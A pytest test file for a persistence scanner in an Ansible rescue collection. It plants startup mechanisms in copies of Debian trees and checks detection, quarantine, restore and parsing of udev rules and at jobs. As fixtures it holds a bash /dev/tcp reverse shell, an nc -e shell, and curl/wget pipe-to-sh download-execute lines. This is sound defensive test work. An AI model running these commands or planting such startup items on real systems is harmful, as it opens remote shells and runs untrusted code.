"""Startup items judged by what they finally run: the startup planter's mechanisms in copies of the
three Debian trees (found, nothing else flagged, quarantined, put back, untouched by check mode), and
the pieces on hostile input: following wrappers, udev's value reader, at's job format, the timeline."""

from __future__ import annotations

import hashlib
import os
import shutil

import pytest
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import (
    quarantine as persistence_quarantine,
)
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import scan as persistence
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import timeline
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence.model import PAYLOAD_DEPTH
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence.sources import at_jobs, udev_rules

from support import persistence_drill as drill
from support.planted import Link, plant
from support.trees import SUITES, debian_tree

pytest_plugins = ("support.planted_roots",)

REVERSE = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
MECHANISMS = ("xdg_reverse_shell", "udev_escaped_quote", "udev_unowned_script", "at_file", "unit_wrapper")
SUSPICIOUS = "unpackaged-startup-runs-suspicious"
XDG = "/etc/xdg/autostart/keyring-sync.desktop"
NET_RULES = "/etc/udev/rules.d/71-net-sync.rules"
USB_RULES = "/etc/udev/rules.d/99-usb-backup.rules"
UNIT = "/etc/systemd/system/sys-health.service"
# mechanism: the alarms it must raise, (rule, severity, location kind, path); the at job's path
# holds its time, so "AT_JOB" stands for the job the planter recorded.
EXPECTED = {
    "xdg_reverse_shell": {
        ("reverse-shell", "critical", "xdg_autostart", XDG),
        (SUSPICIOUS, "critical", "xdg_autostart", XDG),
    },
    "udev_escaped_quote": {
        ("download-execute", "critical", "udev", NET_RULES),
        (SUSPICIOUS, "critical", "udev", NET_RULES),
    },
    "udev_unowned_script": {
        ("reverse-shell", "critical", "udev", USB_RULES),
        (SUSPICIOUS, "critical", "udev", USB_RULES),
    },
    "at_file": {("download-execute", "critical", "at", "AT_JOB"), (SUSPICIOUS, "critical", "at", "AT_JOB")},
    "unit_wrapper": {
        ("exec-temp-dir", "high", "systemd_unit", UNIT),
        ("exec-hidden-path", "high", "systemd_unit", UNIT),
        (SUSPICIOUS, "critical", "systemd_unit", UNIT),
    },
}
# Where the reasons must say the payload matched: mechanism -> a reason that must be among them.
REASONS = {
    "xdg_reverse_shell": f"payload /usr/local/bin/keyring-sync line 5: {REVERSE.strip()}",
    "udev_escaped_quote": "command: curl -fsS http://192.0.2.1/net.sh | sh",
    "udev_unowned_script": "payload /usr/local/sbin/usb-backup line 5: nc 203.0.113.5 4444 -e /bin/sh &",
    "at_file": "payload /usr/local/lib/sysstat-collect line 4: wget -q -O- http://198.51.100.23/c.sh | sh",
    "unit_wrapper": "payload /usr/local/bin/sys-health line 3 runs: /var/tmp/.sys-health",
}
# The rules whose findings the quarantine acts on, among those the mechanisms raise.
QUARANTINED = {rule for expected in EXPECTED.values() for rule, *_ in expected} - {"unpackaged-startup-item"}


def _at_job(planted: drill.Planted) -> str:
    return next(p for p in planted.paths["at_file"] if p.startswith("/var/spool/cron/atjobs/a"))


def _expected(planted: drill.Planted, mechanism: str) -> set[tuple[str, str, str, str]]:
    return {(r, s, k, _at_job(planted) if p == "AT_JOB" else p) for r, s, k, p in EXPECTED[mechanism]}


@pytest.fixture(scope="module", params=SUITES)
def planted(request, tmp_path_factory) -> tuple[drill.Planted, persistence.Scan]:
    """A copy of the suite's tree with every mechanism planted, and its scan."""
    root = drill.copy_tree(request.param, tmp_path_factory.mktemp("payloads"))
    found = drill.plant(root, "startup", MECHANISMS)
    yield found, drill.scan(root)
    shutil.rmtree(root, ignore_errors=True)


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_each_mechanism_is_found_by_what_it_runs(planted, mechanism):
    found, result = planted

    assert _expected(found, mechanism) <= drill.alarms(result)
    reasons = [r for f in result.findings for r in f.matched]
    assert REASONS[mechanism] in reasons


def test_every_alarm_lies_on_a_planted_path(planted):
    found, result = planted

    assert {path for *_, path in drill.alarms(result)} <= set(found.all_paths())
    assert result.notes == []


@pytest.mark.parametrize("suite", SUITES)
def test_the_pristine_tree_raises_nothing_and_follows_no_payload_into_a_finding(suite):
    result = persistence.scan(str(debian_tree(suite)), drill.shipped_rules())

    assert drill.alarms(result) == set()
    assert not [f for f in result.findings if f.payload_files or any("payload " in r for r in f.matched)]
    # Nothing packaged was followed: the stock startup items run packaged programs only.
    assert {line.path for item in result.scanner.items for line in item.payload_lines} == set()


def test_quarantine_disarms_and_every_restore_brings_the_planted_paths_back(planted):
    found, result = planted
    before = {path: drill.state_of(found.root, path) for path in found.all_paths()}

    actions = drill.quarantine(result)

    assert [a.error for a in actions if a.error] == []
    assert [a.as_dict() for a in actions if a.action == "manual"] == []
    moved = {a.path for a in actions if a.applied}
    # The item, its enabling link and every script of the chain that matched move.
    assert {
        XDG,
        "/usr/local/bin/keyring-sync",
        NET_RULES,
        USB_RULES,
        "/usr/local/sbin/usb-backup",
        _at_job(found),
        "/usr/local/lib/sysstat-collect",
        UNIT,
        "/etc/systemd/system/multi-user.target.wants/sys-health.service",
        "/usr/local/bin/sys-health",
        "/var/tmp/.sys-health",
    } == moved
    again = drill.scan(found.root)
    assert {a for a in drill.alarms(again) if a[0] in QUARANTINED} == set()

    drill.restore(actions)

    assert {path: drill.state_of(found.root, path) for path in found.all_paths()} == before
    assert drill.alarms(drill.scan(found.root)) == drill.alarms(result)


def test_check_mode_plans_the_quarantine_and_changes_nothing(planted, capsys, deadline):
    found, result = planted
    before = drill.fingerprint(found.root)

    planned = persistence_quarantine.plan(result)
    checked = drill.check_mode(found.root, capsys, deadline(300))

    assert {a.path for a in planned if a.action == "move"} <= {a["path"] for a in checked["actions"]}
    assert drill.fingerprint(found.root) == before
    # The timeline holds every flagged file with its rules.
    flagged = {e["path"]: e for e in checked["timeline"]["entries"] if e["flagged"]}
    assert {XDG, NET_RULES, USB_RULES, UNIT, _at_job(found), "/usr/local/bin/keyring-sync"} <= set(flagged)
    assert "reverse-shell" in flagged[XDG]["rules"]
    assert checked["timeline"]["total"] >= len(checked["timeline"]["entries"]) > 0


# ---- following wrappers, on hostile payloads -----------------------------------------------------

SERVICE = "[Service]\nExecStart={}\n"


def _unit_running(root, program: str) -> None:
    plant(root, "/etc/systemd/system/probe.service", SERVICE.format(program))


def _reasons(result: persistence.Scan, rule: str) -> list[str]:
    return [r for f in result.findings if f.rule.id == rule for r in f.matched]


def test_a_chain_of_wrappers_is_followed_to_the_script_it_finally_runs(base, rules):
    _unit_running(base, "/usr/local/bin/a --flag")
    plant(base, "/usr/local/bin/a", '#!/bin/sh\nexec /usr/local/bin/b "$@"\n', 0o755)
    plant(base, "/usr/local/bin/b", "#!/bin/sh\n# settings\n. /etc/probe.conf\n", 0o755)
    plant(base, "/etc/probe.conf", "/bin/sh /opt/probe/run.sh\n")
    plant(base, "/opt/probe/run.sh", "#!/bin/sh\n" + REVERSE, 0o755)

    result = persistence.scan(str(base), rules)

    assert _reasons(result, "reverse-shell") == [f"payload /opt/probe/run.sh line 2: {REVERSE.strip()}"]
    item = next(f.item for f in result.findings if f.rule.id == "reverse-shell")
    assert [line.path for line in item.payload_lines] == [
        "/usr/local/bin/a",
        "/usr/local/bin/b",
        "/etc/probe.conf",
        "/opt/probe/run.sh",
    ]
    assert result.notes == []


def test_a_script_deeper_than_the_limit_is_a_note_not_a_finding(base, rules):
    names = [f"/usr/local/bin/w{i}" for i in range(PAYLOAD_DEPTH + 1)]
    _unit_running(base, names[0])
    for i, name in enumerate(names[:-1]):
        plant(base, name, f"#!/bin/sh\nexec {names[i + 1]}\n", 0o755)
    plant(base, names[-1], "#!/bin/sh\n" + REVERSE, 0o755)

    result = persistence.scan(str(base), rules)

    assert _reasons(result, "reverse-shell") == []
    assert [n["path"] for n in result.notes] == [names[-1]]
    assert f"{PAYLOAD_DEPTH} scripts deep" in result.notes[0]["problem"]


def test_scripts_that_run_each_other_are_read_once_and_noted(base, rules, deadline):
    _unit_running(base, "/usr/local/bin/ping")
    plant(base, "/usr/local/bin/ping", "#!/bin/sh\n/usr/local/bin/pong\n/var/tmp/ping-ran\n", 0o755)
    plant(base, "/usr/local/bin/pong", "#!/bin/sh\n/usr/local/bin/ping\n", 0o755)

    with deadline(30):
        result = persistence.scan(str(base), rules)

    item = next(f.item for f in result.findings if f.rule.id == "exec-temp-dir")
    assert [line.path for line in item.payload_lines] == ["/usr/local/bin/ping"] * 2 + ["/usr/local/bin/pong"]
    assert ["a loop" in n["problem"] for n in result.notes] == [True]


@pytest.mark.parametrize(
    "name, content, problem",
    [
        ("link above the root", Link("../../../../../../../../opt/host-script"), "leads above the root"),
        ("link loop", Link("/usr/local/bin/probe"), "a link loop"),
        ("huge script", b"#!/bin/sh\n" + b"# padding\n" * 200_000 + REVERSE.encode(), "larger than"),
    ],
)
def test_a_payload_that_cannot_be_read_safely_is_a_note(base, rules, deadline, name, content, problem):
    _unit_running(base, "/usr/local/bin/probe")
    plant(base, "/usr/local/bin/probe", content, 0o755)

    with deadline(30):
        result = persistence.scan(str(base), rules)

    assert _reasons(result, "reverse-shell") == []
    assert [n["path"] for n in result.notes] == ["/usr/local/bin/probe"], name
    assert problem in result.notes[0]["problem"]


def test_binaries_fifos_and_other_languages_are_not_read_as_shell(base, rules, deadline):
    # An ELF program and a file with NUL bytes are no scripts; a FIFO must not block the scan.
    plant(base, "/usr/local/bin/elf", (base / "usr/bin/true").read_bytes(), 0o755)
    plant(base, "/usr/local/bin/nul", b"/var/tmp/.x\0" + REVERSE.encode(), 0o755)
    os.mkfifo(base / "usr/local/bin/fifo")
    # Python naming /tmp paths writes files there; it does not run them.
    plant(base, "/usr/local/bin/tool.py", "#!/usr/bin/env python3\nopen('/tmp/tool.log', 'w')\n", 0o755)
    plant(base, "/usr/local/bin/tool", "import os\nos.system('/var/tmp/.x')\n", 0o755)
    (base / "usr/local/bin/tool").rename(base / "usr/local/bin/tool.pl")
    command = "; ".join(f"/usr/local/bin/{n}" for n in ("elf", "nul", "fifo", "tool.py", "tool.pl"))
    _unit_running(base, f"/bin/sh -c '{command}'")

    with deadline(30):
        result = persistence.scan(str(base), rules)

    assert [f.rule.id for f in result.findings if f.rule.severity != "info"] == []
    assert result.notes == []


def test_a_packaged_script_is_judged_again_only_when_its_checksum_is_contradicted(base, rules):
    tree = debian_tree("bookworm")
    shutil.copy2(tree / "var/lib/dpkg/info/grep.md5sums", base / "var/lib/dpkg/info/grep.md5sums")
    _unit_running(base, "/usr/bin/egrep")
    stock = (tree / "usr/bin/egrep").read_bytes()
    plant(base, "/usr/bin/egrep", stock, 0o755)
    assert _reasons(persistence.scan(str(base), rules), "exec-hidden-path") == []

    plant(base, "/usr/bin/egrep", stock + b"/usr/bin/.egrep-helper &\n", 0o755)
    hits = _reasons(persistence.scan(str(base), rules), "exec-hidden-path")
    assert [r for r in hits if r.startswith("payload /usr/bin/egrep line")] == hits != []

    # The same content with the package's record agreeing is the package's again.
    digest = hashlib.md5((base / "usr/bin/egrep").read_bytes()).hexdigest()
    sums = base / "var/lib/dpkg/info/grep.md5sums"
    sums.write_text(
        "".join(
            f"{digest}  {line.split()[1]}\n" if line.split()[1].endswith("bin/egrep") else line + "\n"
            for line in sums.read_text().splitlines()
        )
    )
    assert _reasons(persistence.scan(str(base), rules), "exec-hidden-path") == []


# ---- udev's value reader, after systemd-udevd's (udev_rule_parse_value) ------------------------

UDEV_CASES = {
    # An escaped quote is a quote inside the value, not its end.
    r'RUN+="/bin/sh -c \"curl -fsS http://192.0.2.1/x | sh\""': [
        ("RUN", "", "+=", '/bin/sh -c "curl -fsS http://192.0.2.1/x | sh"')
    ],
    # Any other backslash is kept as it is; a backslash before the quote escapes it even after another.
    r'RUN+="a\tb\\c"': [("RUN", "", "+=", r"a\tb\\c")],
    r'RUN+="a\\", ACTION=="add"': [("RUN", "", "+=", 'a\\", ACTION==')],
    # e"..." is C-escaped: \t, \x2f, \057 and \" are characters.
    r'RUN+=e"\x2ftmp\057x\t\"y\""': [("RUN", "", "+=", '/tmp/x\t"y"')],
    # Keys with attributes, every operator, and no space after the commas.
    r'SUBSYSTEM=="net",ENV{ID_BUS}!="usb",RUN{program}+="/usr/bin/a"': [
        ("SUBSYSTEM", "", "==", "net"),
        ("ENV", "ID_BUS", "!=", "usb"),
        ("RUN", "program", "+=", "/usr/bin/a"),
    ],
    # A value without its closing quote ends the line for udevd; so does a value not in quotes.
    r'ACTION=="add", RUN+="/usr/bin/a': [("ACTION", "", "==", "add")],
    r"ACTION==add, RUN+=\"/usr/bin/a\"": [],
}


@pytest.mark.parametrize("line", UDEV_CASES)
def test_udev_values_are_read_as_udevd_reads_them(line):
    assert list(udev_rules.keys(line)) == UDEV_CASES[line]


@pytest.mark.parametrize(
    "value, command",
    [
        ("/tmp/$kernel-helper", "/tmp/udev-kernel-helper"),
        ("/var/tmp/.%k", "/var/tmp/.udev-k"),
        ("$sys/bus/x $root/y %S %r", "/sys/bus/x /dev/y /sys /dev"),
        ("/usr/bin/a $env{HOME} %E{X} $attr{size}", "/usr/bin/a udev-env udev-e udev-attr"),
        ("/usr/bin/printf 100%% $$HOME", "/usr/bin/printf 100% $HOME"),
    ],
)
def test_udev_substitutions_do_not_hide_a_program_path(value, command):
    assert udev_rules.substituted(value) == command


def test_udev_rules_across_continuation_lines_and_the_keys_that_run_programs(base, rules):
    plant(
        base,
        "/etc/udev/rules.d/60-probe.rules",
        'ACTION=="add", \\\n  RUN+="/var/tmp/.probe-run $kernel"\n'
        'PROGRAM=="/var/tmp/.probe-program"\n'
        'IMPORT{program}="/var/tmp/.probe-import"\n'
        'IMPORT{file}="/var/tmp/.probe-file"\n'
        'RUN{builtin}+="/var/tmp/.probe-builtin"\n'
        'RUN=="/var/tmp/.probe-match"\n'
        'RUN+=e"\\x2fvar/tmp/.probe-escaped"\n',
    )

    result = persistence.scan(str(base), rules)

    runs = {(f.item.line, f.item.command) for f in result.findings if f.rule.id == "exec-temp-dir"}
    assert runs == {
        (1, "/var/tmp/.probe-run udev-kernel"),
        (3, "/var/tmp/.probe-program"),
        (4, "/var/tmp/.probe-import"),
        (8, "/var/tmp/.probe-escaped"),
    }


# ---- at jobs ------------------------------------------------------------------------------------

DEBIAN_JOB = (
    "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"
    "SHELL=/bin/bash; export SHELL\nPATH=/tmp/bin:/usr/bin; export PATH\n"
    "cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
    "/usr/bin/true\n/bin/sh /usr/local/lib/job.sh\n"
)
RED_HAT_JOB = DEBIAN_JOB.replace(
    "/usr/bin/true\n", "${SHELL:-/bin/sh} << 'marcinDELIMITER1c2d3e4f'\n/usr/bin/true\n"
).replace("job.sh\n", "job.sh\nmarcinDELIMITER1c2d3e4f\n")


@pytest.mark.parametrize(
    "job, commands",
    [
        (DEBIAN_JOB, ["/usr/bin/true", "/bin/sh /usr/local/lib/job.sh"]),
        (RED_HAT_JOB, ["/usr/bin/true", "/bin/sh /usr/local/lib/job.sh"]),
        # A job in no known shape is read whole.
        ("/usr/bin/true\n/usr/bin/false\n", ["/usr/bin/true", "/usr/bin/false"]),
        # A cd block that never closes leaves nothing out.
        ("cd / || {\n echo 'Execution directory inaccessible'\n/usr/bin/x\n", None),
    ],
)
def test_only_an_at_jobs_commands_are_commands(job, commands):
    numbered = [(n, t) for n, t in enumerate(job.splitlines(), start=1) if t.strip()]

    got = [text for _n, text in at_jobs.command_lines(numbered)]

    assert got == (commands if commands is not None else [t for _n, t in numbered])


@pytest.mark.parametrize(
    "runs", ["/bin/sh /usr/local/lib/job.sh", "bash /usr/local/lib/job.sh", "/usr/local/lib/job.sh"]
)
def test_an_at_job_runs_its_script_as_a_payload_and_its_environment_is_no_command(base, rules, runs):
    plant(
        base,
        "/var/spool/cron/atjobs/a000010200aa00",
        DEBIAN_JOB.replace("/bin/sh /usr/local/lib/job.sh", runs),
        0o700,
    )
    plant(base, "/usr/local/lib/job.sh", "#!/bin/sh\ncurl -s http://198.51.100.4/x | sh\n", 0o755)

    result = persistence.scan(str(base), rules)

    at_items = [i for i in result.scanner.items if i.kind == "at" and i.line is not None]
    assert [i.command for i in at_items] == ["/usr/bin/true", runs]
    assert _reasons(result, "download-execute") == [
        "payload /usr/local/lib/job.sh line 2: curl -s http://198.51.100.4/x | sh"
    ]
    # PATH=/tmp/bin in the environment is not a program run from /tmp.
    assert _reasons(result, "exec-temp-dir") == []


# ---- the timeline -------------------------------------------------------------------------------

HOUR = timeline.NEAR


def _moment(path: str, ctime: float, mtime: float | None = None, flagged: bool = False) -> timeline.Moment:
    return timeline.Moment(
        path, "cron", ctime, ctime if mtime is None else mtime, ["r"] if flagged else [], flagged
    )


def test_the_timeline_orders_by_change_time_and_marks_what_changed_within_an_hour():
    base_time = 1_800_000_000
    moments = [
        _moment("/late", base_time + 5 * HOUR),
        _moment("/flagged", base_time, flagged=True),
        _moment("/hour-before", base_time - HOUR),
        _moment("/just-over-an-hour", base_time + HOUR + 1),
        _moment("/old-ctime-recent-mtime", base_time - 10 * HOUR, base_time + 60),
        _moment("/same-second", base_time),
    ]

    shown = timeline.ordered(moments)

    assert [(e["path"], e["flagged"], e["near_flagged"]) for e in shown["entries"]] == [
        ("/old-ctime-recent-mtime", False, True),
        ("/hour-before", False, True),
        ("/flagged", True, False),
        ("/same-second", False, True),
        ("/just-over-an-hour", False, False),
        ("/late", False, False),
    ]
    assert (shown["total"], shown["omitted"]) == (6, 0)
    assert shown["entries"][0]["ctime"] == "2027-01-14T22:00:00Z"


def test_a_bounded_timeline_keeps_the_flagged_and_near_then_the_most_recent():
    base_time = 1_800_000_000
    moments = [_moment(f"/old{i}", base_time - (100 + i) * HOUR) for i in range(20)]
    moments += [_moment("/flagged", base_time, flagged=True), _moment("/near", base_time + 10)]

    shown = timeline.ordered(moments, limit=4)

    assert [e["path"] for e in shown["entries"]] == ["/old1", "/old0", "/flagged", "/near"]
    assert (shown["total"], shown["omitted"]) == (22, 18)
    assert timeline.ordered(moments, limit=0)["entries"] == []
